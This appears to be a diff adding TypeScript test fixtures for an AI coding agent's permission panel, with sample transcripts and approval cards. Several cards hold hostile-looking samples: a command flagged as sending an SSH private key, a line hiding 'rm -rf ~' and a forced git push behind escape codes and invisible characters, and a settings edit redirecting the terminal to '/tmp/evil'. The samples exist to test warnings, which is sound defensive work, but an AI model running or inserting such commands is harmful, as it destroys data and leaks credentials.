@@ -1,0 +1,259 @@
+import { represent } from '../../../src/protocol/representation.ts';
+import type { QuestionCard, ViewState } from '../../../src/protocol/viewState.ts';
+
+/** States of the panel for tests and for the gallery. */
+
+export function viewState(over: Partial<ViewState> = {}): ViewState {
+  return {
+    sessionId: 's1',
+    rows: [],
+    echo: undefined,
+    notice: undefined,
+    streaming: undefined,
+    outputs: {},
+    questions: [],
+    phase: 'idle',
+    mode: 'assisted',
+    trusted: true,
+    model: { label: 'gpt-oss-20b · local', practice: false },
+    tokens: 0,
+    checklist: [],
+    draft: '',
+    folder: 'sample',
+    ...over,
+  };
+}
+
+export function question(over: Partial<QuestionCard> = {}): QuestionCard {
+  return {
+    callId: 'c1',
+    category: 'shell',
+    tool: 'run_shell_command',
+    subject: 'npm test',
+    sha256: 'abc123',
+    reason: 'Assisted mode asks before a command runs.',
+    facts: [],
+    remembers: {
+      session: 'npm test, until this session ends',
+      always: 'npm test, in this folder',
+      denyAlways: 'npm test is refused in this folder',
+    },
+    ...over,
+  };
+}
+
+const commandRow = (callId: string, row: object) =>
+  represent('command-run', callId, {
+    callId,
+    command: 'npm test',
+    status: 'ok',
+    decidedBy: '',
+    output: '',
+    ...row,
+  });
+
+const message = `I looked at \`src/greeting.ts:4\`. The **name** is dropped, so *everyone* is greeted alike.
+
+## What I would do
+
+1. Put the name back
+2. Run \`npm test\`
+   - it takes a second
+   - [x] nothing else is touched
+
+\`\`\`ts
+export function greet(name: string): string {
+  return \`Hello, \${name}!\`; // a rather long line of code that does not fit into three hundred pixels of width
+}
+\`\`\`
+
+> The test says what is meant.
+
+| file | lines |
+|---|--:|
+| \`src/greeting.ts\` | 1 |
+| \`test/greeting.test.ts\` | 0 |
+
+See [the handbook](https://docs.example.org/handbook?page=2) or <https://example.org>. ![a picture](https://pictures.example/p.png)`;
+
+const testOutput = `> sample@1.0.0 test\n> node --test\n\n\u001b[32m✔ greets by name\u001b[0m (0.8ms)\n\u001b[31m✖ says goodbye\u001b[0m (1.2ms)\n${Array.from({ length: 20 }, (_, at) => `  at line ${at + 1}`).join('\n')}\n`;
+
+const rows = [
+  represent('user-message', 'u1', { text: 'Fix the greeting, then run the tests.' }),
+  represent('reasoning-message', 'm1/reasoning', { text: 'The greeting ignores its argument.' }),
+  represent('assistant-message', 'm1', { text: message }),
+  represent('tool-call', 't1', {
+    callId: 't1',
+    tool: 'read_file',
+    subject: 'src/greeting.ts',
+    status: 'ok',
+    decidedBy: 'Reading needs no answer in Assisted mode.',
+    text: 'export function greet…',
+  }),
+  represent('tool-call', 't2', {
+    callId: 't2',
+    tool: 'read_file',
+    subject: '../outside/secret.txt',
+    status: 'failed',
+    decidedBy: 'Reading needs no answer in Assisted mode.',
+    text: '../outside/secret.txt lies outside the folder.',
+  }),
+  represent('file-change', 'f1', {
+    callId: 'f1',
+    tool: 'edit_file',
+    path: 'src/greeting.ts',
+    status: 'ok',
+    decidedBy: 'Assisted mode grants file edits.',
+    added: 24,
+    removed: 3,
+    hasDiff: true,
+    text: '',
+  }),
+  commandRow('c0', {
+    command: 'git log --oneline -5',
+    exitCode: 0,
+    durationMs: 104,
+    decidedBy: 'read-only, cleared without a model',
+    output: 'a1b2c3 Say hello\nd4e5f6 Start\n',
+  }),
+  commandRow('c2', {
+    command:
+      'npm test -- --reporter=spec --grep "greets everybody by their own name, in every language"',
+    status: 'failed',
+    exitCode: 1,
+    durationMs: 14_230,
+    decidedBy: 'you: once',
+    output: testOutput,
+  }),
+  commandRow('c3', {
+    command: 'cat <<EOF > notes.txt\nfirst\n\tsecond\nEOF\nnode build.mjs',
+    status: 'cancelled',
+    durationMs: 61_000,
+    decidedBy: 'you: this session',
+    ended: 'cancelled',
+  }),
+  commandRow('c4', { command: 'node migrate.mjs', status: 'interrupted', decidedBy: 'you: once' }),
+  commandRow('c5', {
+    command: 'npm publish',
+    status: 'refused',
+    decidedBy: 'A deny entry covers it: npm publish*',
+  }),
+  represent('question-card', 'q1', {
+    callId: 'q1',
+    tool: 'run_shell_command',
+    subject: 'rm -rf node_modules',
+    answer: 'you: no',
+    words: 'Keep them, the network is slow here.',
+  }),
+  represent('command-event', 'e1', { text: 'Mode: Assisted' }),
+  represent('turn-stopped', 'e2', { text: 'Stopped. What had not started yet did not run.' }),
+  represent('store-problem', 'e3', {
+    text: 'shell-allowlist.json could not be written. The answer holds for this session.',
+  }),
+  represent('turn-error', 'e4', {
+    text: 'The server at http://127.0.0.1:1234/v1 does not answer. Start it, or pick another model.',
+  }),
+];
+
+const dangerous = question({
+  callId: 'c9',
+  subject: 'rm -rf node_modules\nnpm install --registry https://packages.example.ag',
+  reason: 'Assisted mode asks, as there is no rater to judge it.',
+  facts: [
+    { text: 'deletes node_modules/ · recursive', tone: 'plain' },
+    { text: 'fetches from packages.example.ag', tone: 'warn' },
+    { text: 'sends ~/.ssh/id_ed25519', tone: 'bad' },
+    { text: '2 commands', tone: 'plain' },
+  ],
+});
+
+const hidden =
+  'ls\u001b[2K\u001b[1G echo safe; git push origin ma\u200bin \u202e--force\u202c\u00a0now\n\n\n\n\n\n\nrm -rf ~                              ; echo done   ';
+
+const fileQuestion = question({
+  callId: 'f2',
+  category: 'file',
+  tool: 'edit_file',
+  subject: '.vscode/settings.json',
+  reason: 'This place is protected: a change there always asks.',
+  facts: [{ text: 'protected place', tone: 'warn' }],
+  change: [
+    { kind: 'same', text: '{' },
+    { kind: 'removed', text: '  "editor.tabSize": 4' },
+    { kind: 'added', text: '  "editor.tabSize": 2,' },
+    {
+      kind: 'added',
+      text: '  "terminal.integrated.profiles.linux": { "bash": { "path": "/tmp/evil", "args": [] } }',
+    },
+    { kind: 'same', text: '}' },
+  ],
+  remembers: { whyNot: 'A change to a protected place can not be remembered.' },
+});
+
+const longCommand = Array.from({ length: 120 }, (_, at) => `echo step ${at + 1}`).join('\n');
+
+const practice = { label: 'Practice', practice: true };
+
+export const states: { readonly [name: string]: ViewState } = {
+  empty: viewState({ model: practice }),
+  emptyModel: viewState(),
+  noFolder: (() => {
+    const { folder: _none, ...rest } = viewState({ model: practice, trusted: false });
+    return rest;
+  })(),
+  transcript: viewState({ rows, tokens: 12_412 }),
+  running: viewState({
+    mode: 'bypass',
+    rows: [
+      ...rows.slice(0, 1),
+      commandRow('c7', { command: 'npm run build', status: 'running', decidedBy: 'you: always' }),
+    ],
+    outputs: { c7: 'compiling…\nbundling…\n' },
+    streaming: { text: 'While that runs, I look at `package.json`', reasoning: 'Hm.' },
+    phase: 'working',
+    tokens: 1_200_300,
+    checklist: [
+      { content: 'Read the greeting', status: 'completed' },
+      {
+        content: 'Put the name back where it was before somebody took it out',
+        status: 'in_progress',
+      },
+      { content: 'Run the tests', status: 'pending' },
+    ],
+    notice: represent('steer-notice', 'n1', {
+      text: 'Accepted. The agent reads it at its next step.',
+    }),
+    echo: represent('command-feedback', 'n2', { text: 'Copied.' }),
+  }),
+  question: viewState({
+    rows: rows.slice(0, 3),
+    questions: [dangerous, question(), fileQuestion],
+    phase: 'waiting',
+    tokens: 940,
+    echo: represent('grant-saved', 'n3', {
+      text: 'Saved: npm test runs in this folder without asking.',
+    }),
+  }),
+  hiddenCharacters: viewState({
+    rows: rows.slice(0, 1),
+    questions: [
+      question({
+        subject: hidden,
+        remembers: {
+          denyAlways: 'this exact line',
+          whyNot: 'A line with hidden characters can not be allowed for longer than once.',
+        },
+      }),
+    ],
+    phase: 'waiting',
+  }),
+  fileQuestion: viewState({ rows: rows.slice(0, 1), questions: [fileQuestion], phase: 'waiting' }),
+  longCommand: viewState({
+    rows: rows.slice(0, 1),
+    questions: [question({ subject: longCommand })],
+    phase: 'waiting',
+    notice: represent('error-surface', 'n4', {
+      text: 'That answer was for another text of the command. Look again.',
+    }),
+  }),
+};
